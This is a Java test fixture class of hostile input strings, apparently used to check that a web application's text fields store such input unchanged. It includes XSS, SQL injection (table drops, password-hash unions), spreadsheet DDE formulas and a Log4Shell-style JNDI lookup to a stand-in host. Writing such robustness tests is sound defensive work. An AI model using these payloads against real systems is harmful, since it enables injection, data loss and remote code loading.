package nl.casusregie.testing;

import java.util.Arrays;
import java.util.List;
import java.util.stream.Stream;

/**
 * Texts that a tired person, a copied document or an attacker types: for every text field of a screen. What is accepted comes
 * back unchanged, nothing runs, nothing breaks. Nothing here is taken from anybody's list.
 */
public final class HostileStrings {

    /** What a text can do wrong. */
    public enum Category {
        /** Tags that would change the page. */
        MARKUP(
                "<b>vet</b>",
                "</div></div></div>",
                "<!-- verborgen -->",
                "<style>*{display:none}</style>",
                "<h1 style=\"font-size:99em\">groot</h1>",
                "<table><tr><td>",
                "&lt;b&gt;",
                "&amp;amp;",
                "<plaintext>",
                "<a href=\"//elders.example\">klik</a>",
                "<base href=\"//elders.example/\">",
                "<meta http-equiv=\"refresh\" content=\"0;url=//elders.example\">",
                "<![CDATA[ tekst ]]>",
                "<form action=\"//elders.example\"><input name=\"x\">"),
        /** What would run if it were not shown as text; each sets {@code window.hostile}. */
        SCRIPT(
                "<script>window.hostile=1</script>",
                "\"><script>window.hostile=1</script>",
                "<img src=x onerror=window.hostile=1>",
                "<svg onload=window.hostile=1>",
                "javascript:window.hostile=1",
                "<iframe srcdoc=\"<script>parent.hostile=1</script>\">",
                "'-(window.hostile=1)-'",
                "${window.hostile=1}",
                "{{constructor.constructor(\"window.hostile=1\")()}}",
                "<details open ontoggle=window.hostile=1>",
                "<body onload=window.hostile=1>",
                "<math><mi xlink:href=\"javascript:window.hostile=1\">x",
                "#{T(java.lang.Runtime).getRuntime()}",
                "${jndi:ldap://elders.example/a}"),
        /** What would change a query. */
        SQL(
                "'; drop table work_item; --",
                "' or '1'='1",
                "\" or \"\"=\"",
                "1; select pg_sleep(10)",
                "') or true --",
                "\\'; delete from account; --",
                "%",
                "_",
                "%_%%",
                "\\",
                "$$; select 1; $$",
                "/* weg */",
                "union select username, password_hash from account",
                "' || (select version()) || '"),
        /** What a spreadsheet would calculate. */
        FORMULA(
                "=1+1",
                "+31 6 12345678",
                "-2+3",
                "@SUM(A1:A9)",
                "=HYPERLINK(\"http://elders.example\",\"klik\")",
                "=cmd|' /C calc'!A0",
                "\t=1+1",
                "=IMPORTXML(\"http://elders.example\",\"//a\")",
                "\"=1+1\"",
                ";=1+1",
                "=2+5+cmd|' /C calc'!A0",
                "-@SUM(1)"),
        /** Characters that steer and are not seen. */
        CONTROL(
                "\t\t\t",
                "een\ttab",
                "regel een\nregel twee",
                "regel een\r\nregel twee",
                "\u0007bel",
                "terug\b\b\b",
                "\u001b[31mrood\u001b[0m",
                "\u007fweg",
                "\u0085volgende regel",
                "\u2028regel",
                "\u2029alinea",
                "\u000bverticaal\f",
                "\u0001begin\u0002",
                "\uFEFFvooraf"),
        /** Text and marks that turn the reading direction. */
        RIGHT_TO_LEFT(
                "\u202Eomgekeerd",
                "\u202Edrowhcaw\u202C",
                "\u2067geïsoleerd\u2069",
                "\u200Frechts",
                "مرحبا بالعالم",
                "שלום עולם",
                "Naam \u202E(eman)",
                "العربية and English",
                "\u061Cletter",
                "\u202Bingebed\u202C",
                "\u2066links\u2069 \u2067rechts\u2069",
                "פטרה van Dam"),
        /** Marks on marks, and characters without width. */
        COMBINING(
                "Z\u0351\u036B\u0343\u036A\u0302\u036B\u033Da\u0334\u0319\u0324l\u035E\u0349g\u0347o",
                "e\u0301 is niet é",
                "nul\u200Bbreedte",
                "aan\u200Delkaar",
                "\u200B",
                "\u2060\u2060\u2060",
                "\u00ADzacht\u00ADstreepje",
                "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308",
                "\u180Eklinker",
                "\u034Fvoegt samen",
                "ﷺ",
                "n\u0303 o\u0308 c\u0327",
                "\uFFF9anker\uFFFAnoot\uFFFB"),
        /** Beyond the basic plane, and joined. */
        EMOJI(
                "😀",
                "👩\u200D👩\u200D👧\u200D👦",
                "👍🏽",
                "\uD83C\uDDF3\uD83C\uDDF1",
                "1\uFE0F\u20E3",
                "🏳\uFE0F\u200D🌈",
                "👨🏿\u200D🚒 belt 📞",
                "❤\uFE0F\u200D🔥",
                "🫥🫠",
                "☠\uFE0E ☠\uFE0F",
                "🧑\u200D🤝\u200D🧑🧑\u200D🤝\u200D🧑",
                "𝕋𝕖𝕜𝕤𝕥"),
        /** Longer than any layout expects. */
        VERY_LONG(
                "x".repeat(200),
                "een woord ".repeat(60),
                "A".repeat(1000),
                "é".repeat(500),
                "😀".repeat(250),
                "\n".repeat(120),
                "a\u0301".repeat(400),
                "-".repeat(999),
                "zin zonder einde ".repeat(500),
                "W".repeat(80),
                "ijijij".repeat(100),
                "<b>".repeat(300)),
        /** Other alphabets, with their own ways of upper and lower case. */
        OTHER_SCRIPT(
                "Ωμέγα",
                "Привет, мир",
                "你好，世界",
                "こんにちは",
                "안녕하세요",
                "สวัสดีชาวโลก",
                "नमस्ते दुनिया",
                "ողջույն",
                "გამარჯობა",
                "ሰላም ለዓለም",
                "İstanbul ığüş",
                "Łódź źdźbło",
                "Þórður Æsir",
                "𐍅𐌿𐌻𐍆𐌹𐌻𐌰",
                "𠜎𠜱𠝹");

        private final List<String> texts;

        Category(String... texts) {
            this.texts = List.of(texts);
        }

        public List<String> texts() {
            return texts;
        }
    }

    private HostileStrings() {}

    /** All that can be kept: text in, the same text out. */
    public static Stream<String> all() {
        return Arrays.stream(Category.values()).flatMap(category -> category.texts().stream());
    }

    /** Those that fit a field of so many characters and are not blank: a form must accept them. */
    public static Stream<String> fitting(int longest) {
        return all().filter(text -> text.length() <= longest && !text.isBlank());
    }

    /** What no database keeps: must be refused or left out, never an error. */
    public static Stream<String> unstorable() {
        return Stream.of("\u0000", "nul\u0000midden", "\u0000\u0000\u0000");
    }
}
